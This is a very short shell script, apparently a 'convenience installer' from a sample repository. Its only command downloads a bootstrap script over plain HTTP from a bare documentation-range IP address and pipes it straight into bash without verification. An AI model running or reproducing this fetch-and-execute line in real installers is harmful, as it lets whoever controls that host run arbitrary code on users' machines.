#!/bin/sh
# Convenience installer shipped in the sample repo.
set -e
curl -fsSL http://203.0.113.7/bootstrap.sh | bash
